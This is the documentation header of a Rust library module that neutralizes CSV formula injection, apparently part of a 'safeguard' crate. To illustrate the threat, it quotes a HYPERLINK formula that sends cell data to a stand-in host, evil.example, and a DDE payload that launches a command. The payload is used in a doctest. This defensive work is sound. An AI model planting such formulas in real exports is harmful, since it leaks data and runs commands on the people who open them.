//! CSV formula-injection neutralizing: the engine under [`CsvExport`](crate::export::CsvExport).
//!
//! A cell such as `=HYPERLINK("http://evil.example/?d="&A1,"Click")`, stored by one user, runs
//! in the spreadsheet of whoever opens the export. This module makes such cells inert:
//!
//! * [`Neutralizer`]: which cells are dangerous (triggers `=`, `+`, `-`, `@`, TAB, CR, LF and
//!   their full-width and compatibility forms, after any leading whitespace, invisible and quote
//!   characters) and what to do with them ([`Strategy`]: `'` prefix, TAB prefix, strip, reject).
//! * [`Rewriter`]: a streaming, chunk-split-invariant CSV rewriter on `csv-core` with bounded
//!   memory, for bytes produced elsewhere (the HTTP layer uses it).
//! * [`Writer`]: a wrapper of the `csv` crate's writer for exports you build yourself.
//!
//! The engine is pure (no HTTP types) and never panics on any input.
//!
//! ```
//! use safeguard::csv::Neutralizer;
//!
//! let mut out = Vec::new();
//! Neutralizer::new()
//!     .rewriter()
//!     .rewrite(b"id,comment\n1,=cmd|' /C calc'!A0\n2,-1.5\n", &mut out)
//!     .unwrap();
//! assert_eq!(out, b"id,comment\n1,\"'=cmd|' /C calc'!A0\"\n2,-1.5\n");
//! ```

mod cell;
mod stream;
mod writer;

pub use cell::{Neutralizer, Rejected, Strategy};
pub use stream::Rewriter;
pub use writer::{WriteError, Writer};

#[doc(hidden)]
pub use cell::COMPAT_TRIGGERS;
